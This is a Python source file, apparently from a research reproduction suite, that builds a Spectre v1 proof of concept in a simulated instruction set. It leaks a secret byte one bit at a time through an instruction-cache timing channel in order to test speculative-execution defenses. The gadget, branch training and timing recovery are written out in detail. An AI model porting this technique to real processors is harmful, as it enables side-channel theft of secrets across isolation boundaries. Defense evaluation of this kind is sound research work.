"""Spectre v1 with the instruction-cache covert channel.

Mambretti et al. [39] demonstrated covert transmission through the i-cache;
the paper's related-work section (§7) stresses that d-cache defenses like
InvisiSpec do not extend to the instruction side cheaply.  This PoC
transmits one bit per experiment: the wrong path computes an indirect jump
target from the secret bit and — only when the bit is set — redirects fetch
into a never-executed, line-aligned code stub.  The instruction fetch fills
the stub's i-cache line, the squash does not evict it, and the recover
phase times an architectural call into the stub.

Like the BTB and FPU channels, this leaks under both InvisiSpec variants
and is blocked by every NDA policy (the target computation depends on the
unsafe load).
"""

from __future__ import annotations

from typing import List, Optional

from repro.attacks.common import (
    ARRAY_SIZE,
    RESULTS_BASE,
    SECRET_OFFSET,
    BitChannelOutcome,
    run_attack,
    victim_map,
)
from repro.config import SimConfig
from repro.isa.assembler import Assembler
from repro.isa.program import Program
from repro.isa.registers import (
    R10, R11, R20, R21, R22, R23, R24, R26,
)

_MAP = victim_map("spectre_icache")
ARRAY_BASE = _MAP["array"]
SIZE_ADDR = _MAP["size"]
SECRET_ADDR = ARRAY_BASE + SECRET_OFFSET
TRAIN_CALLS = 4
N_BITS = 8
# Warm call+ret ~ 15 cycles; a cold stub pays an off-chip i-fetch (~140).
WARM_THRESHOLD = 60
LEAK_MARGIN = 40


def build_program(secret: int = 42) -> Program:
    asm = Assembler("spectre_icache")
    asm.word(SIZE_ADDR, ARRAY_SIZE)
    asm.data(ARRAY_BASE, bytes([0] * ARRAY_SIZE))
    asm.data(SECRET_ADDR, bytes([secret]))
    asm.jmp("main")

    # Per-bit victims: identical to the NetSpectre gadget, but the
    # bit-gated instruction is a direct jump into a cold code stub.
    for bit in range(N_BITS):
        asm.label("victim_%d" % bit)
        asm.li(R20, SIZE_ADDR)
        asm.load(R20, R20, 0)
        asm.bge(R10, R20, "victim_done_%d" % bit)
        asm.add(R21, R11, R10)
        asm.loadb(R21, R21, 0)  # (1) access
        asm.shri(R21, R21, bit)
        asm.andi(R21, R21, 1)
        asm.shli(R23, R21, 1)
        asm.li(R22, asm.here + 5)  # pc of victim_done below
        asm.sub(R22, R22, R23)
        asm.jr(R22)  # done (bit=0) or the stub jump (bit=1)
        asm.jmp("stub_%d" % bit)  # (2) transmit: fetch fills the i-line
        asm.nop()
        asm.label("victim_done_%d" % bit)
        asm.ret()

    # The cold stubs: one per bit, each alone on its own i-cache line and
    # never executed (or even fetched) before its recover call.
    asm.align(16)
    for bit in range(N_BITS):
        asm.label("stub_%d" % bit)
        asm.ret()
        asm.align(16)

    asm.label("main")
    asm.li(R11, ARRAY_BASE)
    asm.li(R20, SECRET_ADDR)
    asm.loadb(R21, R20, 0)  # warm the secret's line

    for bit in range(N_BITS):
        for train in range(TRAIN_CALLS):
            asm.li(R10, train % ARRAY_SIZE)
            asm.call("victim_%d" % bit)
        # Fence BEFORE flushing: under InvisiSpec, an earlier invisible
        # training load may otherwise expose (refill) the line after the
        # flush executes out of order.
        asm.fence()
        asm.li(R20, SIZE_ADDR)
        asm.clflush(R20, 0)
        asm.fence()
        asm.li(R10, SECRET_OFFSET)
        asm.call("victim_%d" % bit)
        asm.fence()
        # (3) recover: time an architectural call into the stub.  The call
        # must be *indirect* through a fresh call site: a direct call's
        # target would be fetched (and the line warmed) while the rdtsc
        # below still blocks dispatch — the measurement would warm its own
        # target.  A BTB-missing indirect call stalls fetch until it
        # resolves, which is after t1 commits.
        asm.rdtsc(R22)
        asm.li(R21, asm._labels["stub_%d" % bit])
        asm.callr(R21)
        asm.rdtsc(R23)
        asm.sub(R24, R23, R22)
        asm.li(R26, RESULTS_BASE + bit * 8)
        asm.store(R24, R26, 0)
    asm.halt()
    return asm.build()


def run(
    config: SimConfig,
    secret: int = 42,
    guesses: Optional[List[int]] = None,  # unused: bit-serial channel
    in_order: bool = False,
    fast_forward: bool = True,
) -> BitChannelOutcome:
    """Run the i-cache-channel attack on *config*."""
    program = build_program(secret)
    outcome = run_attack(
        program, config, in_order=in_order, fast_forward=fast_forward
    )
    memory = outcome.state.memory
    bit_timings = [
        memory.read_word(RESULTS_BASE + bit * 8) for bit in range(N_BITS)
    ]
    return BitChannelOutcome(
        attack="spectre_icache",
        channel="i-cache",
        config_label=outcome.label,
        secret=secret,
        bit_timings=bit_timings,
        threshold=WARM_THRESHOLD,
        margin_required=LEAK_MARGIN,
        outcome=outcome,
    )
